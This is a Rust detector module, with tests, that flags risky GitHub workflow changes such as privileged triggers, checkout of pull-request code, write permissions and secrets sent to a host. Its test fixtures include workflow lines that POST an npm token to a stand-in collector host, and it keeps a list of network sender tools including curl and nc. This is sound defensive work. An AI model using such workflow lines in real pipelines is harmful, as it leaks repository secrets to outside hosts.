//! What a CI workflow change lets run with the repository's power, read from its added
//! lines: a trigger that hands forks' code the secrets (`pull_request_target`,
//! `workflow_run`), a checkout of the pull request's head, write permissions, and a secret
//! sent to a host. Each is a diff flag of its own, with what would make it safe.

use crate::evidence::DiffFlag;

/// Events that run with the base repository's secrets and a write token, whoever proposed
/// the change.
const PRIVILEGED_TRIGGERS: &[&str] = &["pull_request_target", "workflow_run"];

/// How a workflow names the pull request's own code.
const PR_HEAD: &[&str] = &[
    "github.event.pull_request.head.sha",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.repo",
    "github.head_ref",
    "refs/pull/",
    "github.event.workflow_run.head_sha",
    "github.event.workflow_run.head_branch",
];

/// HTTP clients and the like a `run:` step sends with.
const SENDERS: &[&str] = &[
    "curl ",
    "wget ",
    "http ",
    "https ",
    "nc ",
    "Invoke-WebRequest",
    "Invoke-RestMethod",
    "fetch(",
];

/// The flags the added lines of a workflow file raise, in no order.
pub(crate) fn flags(added: &[&str]) -> Vec<DiffFlag> {
    let mut flags = Vec::new();
    let code: Vec<&str> = added
        .iter()
        .map(|line| line.split(" #").next().unwrap_or(line).trim())
        .filter(|line| !line.starts_with('#'))
        .collect();
    let any = |test: &dyn Fn(&str) -> bool| code.iter().any(|line| test(line));
    if any(&|line| PRIVILEGED_TRIGGERS.iter().any(|t| names_word(line, t))) {
        flags.push(DiffFlag::CiPrivilegedTrigger);
    }
    if any(&|line| PR_HEAD.iter().any(|h| line.contains(h))) {
        flags.push(DiffFlag::CiChecksOutPrHead);
    }
    if any(&grants_write) {
        flags.push(DiffFlag::CiWritePermissions);
    }
    if sends_secret(&code) {
        flags.push(DiffFlag::CiSecretSentOut);
    }
    flags
}

/// `word` in `line` as a whole word (`on: pull_request_target`, `[push, workflow_run]`).
fn names_word(line: &str, word: &str) -> bool {
    line.match_indices(word).any(|(at, _)| {
        let before = line.get(..at).and_then(|b| b.chars().last());
        let after = line.get(at + word.len()..).and_then(|a| a.chars().next());
        let edge = |c: Option<char>| c.is_none_or(|c| !(c.is_ascii_alphanumeric() || c == '_'));
        edge(before) && edge(after)
    })
}

/// `permissions: write-all`, or one scope given `write` (`contents: write`).
fn grants_write(line: &str) -> bool {
    let line = line.trim_start_matches("- ").trim();
    if line.contains("write-all") {
        return true;
    }
    line.split_once(':').is_some_and(|(scope, value)| {
        let value = value.trim().trim_matches(['"', '\'']);
        value == "write"
            && scope
                .trim()
                .chars()
                .all(|c| c.is_ascii_lowercase() || c == '-')
    })
}

/// A secret on a line that sends to a host, or put in a variable a sending line uses.
fn sends_secret(code: &[&str]) -> bool {
    let sends = |line: &str| {
        SENDERS.iter().any(|s| line.contains(s))
            && (line.contains("http://") || line.contains("https://") || line.contains(" nc "))
    };
    let secret = |line: &str| line.contains("secrets.");
    if code.iter().any(|line| secret(line) && sends(line)) {
        return true;
    }
    // `NPM_TOKEN: ${{ secrets.NPM_TOKEN }}` in `env:`, then `curl … $NPM_TOKEN` in `run:`.
    let carried: Vec<&str> = code
        .iter()
        .filter(|line| secret(line))
        .filter_map(|line| line.split_once(':').map(|(name, _)| name.trim()))
        .filter(|name| {
            !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        })
        .collect();
    code.iter().filter(|line| sends(line)).any(|line| {
        carried.iter().any(|name| {
            line.contains(&format!("${name}"))
                || line.contains(&format!("${{{name}}}"))
                || line.contains(&format!("env.{name}"))
        })
    })
}

/// Whether `flag` is one of the CI risks this module reads.
pub(crate) fn is_ci_risk(flag: DiffFlag) -> bool {
    matches!(
        flag,
        DiffFlag::CiPrivilegedTrigger
            | DiffFlag::CiChecksOutPrHead
            | DiffFlag::CiWritePermissions
            | DiffFlag::CiSecretSentOut
    )
}

/// What would make a change with these flags safe, one clause per flag (empty: none of the
/// CI flags).
pub(crate) fn safe_instead(flags: &[DiffFlag]) -> Vec<&'static str> {
    flags
        .iter()
        .filter_map(|flag| match flag {
            DiffFlag::CiPrivilegedTrigger => Some(
                "trigger on `pull_request`, which runs forks' code without secrets or a write token",
            ),
            DiffFlag::CiChecksOutPrHead => {
                Some("do not check out or run the pull request's code where secrets are")
            }
            DiffFlag::CiWritePermissions => Some(
                "set `permissions: contents: read` and grant a job only the scope it needs",
            ),
            DiffFlag::CiSecretSentOut => {
                Some("send a secret only to the service it is for, from a protected environment")
            }
            _ => None,
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Each row: added workflow lines, and the flags they must raise — or none.
    #[test]
    fn each_risky_workflow_change_is_a_flag_of_its_own() {
        let rows: &[(&str, &[&str], &[DiffFlag])] = &[
            (
                "the tour's workflow: every risk at once",
                &[
                    "on:",
                    "  pull_request_target:",
                    "permissions: write-all",
                    "      - uses: actions/checkout@v4",
                    "        with:",
                    "          ref: ${{ github.event.pull_request.head.sha }}",
                    "      - run: curl -X POST https://collect.example.net/t -d \"t=${{ secrets.NPM_TOKEN }}\"",
                ],
                &[
                    DiffFlag::CiPrivilegedTrigger,
                    DiffFlag::CiChecksOutPrHead,
                    DiffFlag::CiWritePermissions,
                    DiffFlag::CiSecretSentOut,
                ],
            ),
            (
                "a secret carried in env: and sent by run:",
                &[
                    "        env:",
                    "          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}",
                    "        run: curl -H \"Authorization: $NPM_TOKEN\" https://collect.example.net",
                ],
                &[DiffFlag::CiSecretSentOut],
            ),
            (
                "one scope given write",
                &["permissions:", "  contents: write"],
                &[DiffFlag::CiWritePermissions],
            ),
            (
                "workflow_run in a list",
                &["on: [push, workflow_run]"],
                &[DiffFlag::CiPrivilegedTrigger],
            ),
            (
                "a plain test job: no flag",
                &[
                    "on: pull_request",
                    "permissions:",
                    "  contents: read",
                    "      - run: cargo test",
                    "      - run: npm publish",
                    "        env:",
                    "          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}",
                ],
                &[],
            ),
            (
                "a comment naming the trigger: no flag",
                &["# do not use pull_request_target here"],
                &[],
            ),
            (
                "a job named after the trigger word: no flag",
                &["  pull_request_targets_check:"],
                &[],
            ),
        ];
        for (name, lines, want) in rows {
            let got = flags(lines);
            assert_eq!(
                &got, want,
                "{name}: the flags name each risk, and nothing else"
            );
        }
    }

    #[test]
    fn every_ci_flag_says_what_would_make_it_safe() {
        let all = [
            DiffFlag::CiPrivilegedTrigger,
            DiffFlag::CiChecksOutPrHead,
            DiffFlag::CiWritePermissions,
            DiffFlag::CiSecretSentOut,
        ];
        assert_eq!(
            safe_instead(&all).len(),
            all.len(),
            "a recommendation against a flag says what to do instead"
        );
        assert!(
            safe_instead(&[DiffFlag::WorkflowChanged, DiffFlag::LockfileChanged]).is_empty(),
            "other flags need a review, not a different change"
        );
    }
}
